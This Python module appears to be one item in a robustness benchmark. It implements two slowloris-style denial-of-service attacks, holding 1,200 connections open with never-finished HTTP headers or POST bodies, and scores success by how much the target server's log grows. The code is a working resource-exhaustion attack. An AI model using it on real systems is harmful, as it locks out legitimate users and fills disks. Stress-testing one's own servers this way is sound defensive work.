"""Item 10: requests that never end, a thousand at a time."""

import asyncio
from contextlib import suppress

from benchmarks.load.visitor import API
from benchmarks.robustness.attacks.record import ATTACKER, Attack, AttackResult, Target, local

CONNECTIONS = 1_200
"""More than a process may usually have open."""
HELD_SECONDS = 20.0
LOG_BAR = 5_000_000
"""Bytes by which the log may grow meanwhile."""


async def _held(target: Target, request: bytes) -> AttackResult:
    """Open connections, send the beginning of a request on each, and one more byte now and then."""
    host, port = target.address.removeprefix("http://").split(":")
    address, before = local(ATTACKER), target.server.log.stat().st_size
    writers: list[asyncio.StreamWriter] = []

    async def one() -> None:
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(5):
                _, writer = await asyncio.open_connection(host, int(port), local_addr=(address, 0) if address else None)
            writer.write(request)
            writers.append(writer)

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))
    opened = len(writers)
    for _ in range(round(HELD_SECONDS / 2)):
        await asyncio.sleep(2)
        for writer in [one for one in writers if not one.is_closing()]:
            writer.write(b"a")
    still = sum(not writer.is_closing() for writer in writers)
    for writer in writers:
        writer.transport.abort()
    grown = target.server.log.stat().st_size - before
    detail = f"{opened} opened, {still} held for {HELD_SECONDS:.0f} s, the log grew by {grown / 1e6:.1f} MB"
    return AttackResult(grown > LOG_BAR, detail)


async def headers(target: Target) -> AttackResult:
    """Headers that never end."""
    return await _held(target, b"GET / HTTP/1.1\r\nHost: " + target.address[7:].encode() + b"\r\nX-A: ")


async def bodies(target: Target) -> AttackResult:
    """Bodies that never end."""
    host = target.address[7:].encode()
    head = b"POST " + API.encode() + b"/queue/join HTTP/1.1\r\nHost: " + host + b"\r\nOrigin: http://" + host
    return await _held(target, head + b"\r\nContent-Type: application/json\r\nContent-Length: 900000\r\n\r\n{")


ATTACKS = (
    Attack(name="half headers", item="10", harm="lock everybody out, fill the disk by the log", run=headers),
    Attack(name="half bodies", item="10", harm="lock everybody out, fill the disk by the log", run=bodies),
)
